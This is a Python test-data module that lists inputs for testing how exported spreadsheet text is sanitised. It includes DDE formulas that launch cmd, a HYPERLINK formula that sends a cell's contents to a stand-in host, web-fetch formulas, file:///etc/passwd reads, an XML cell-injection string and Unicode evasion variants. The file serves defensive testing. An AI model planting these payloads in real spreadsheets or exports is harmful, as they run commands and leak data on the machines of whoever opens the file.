"""Texts that a spreadsheet might compute, fetch or run, and those that pages are tried with."""

from tests.walls.strings import STRINGS

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")',
    '=WEBSERVICE("http://elsewhere.example/")',
    '=IMPORTXML("http://elsewhere.example/","//a")',
    '=IMAGE("http://elsewhere.example/x.png")',
    "='file:///etc/passwd'#$passwd.A1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t=1+1",
    "\r\n=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    '"=1+1"',
    "'=1+1",
    '",=1+1,"',
    "a;=1+1;b",
    "a\n=1+1",
    "{=1+1}",
    "http://elsewhere.example/",
    "mailto:nadia@elsewhere.example",
    "file:///etc/passwd",
    "internal:Sheet2!A1",
    "_x0041_ and _x000D_",
    '<r><t>a</t></r></is></c><c r="B9" t="str"><f>1+1</f></c><c r="C9"><is><r><t>b</t></r>',
    "2026-05-03",
    "1E5",
    "007",
    "+34 600 000 000",
)
TEXTS = (*FORMULAS, *STRINGS)
# A few texts a field, so that all of them find a place.
ROOM = 2_500
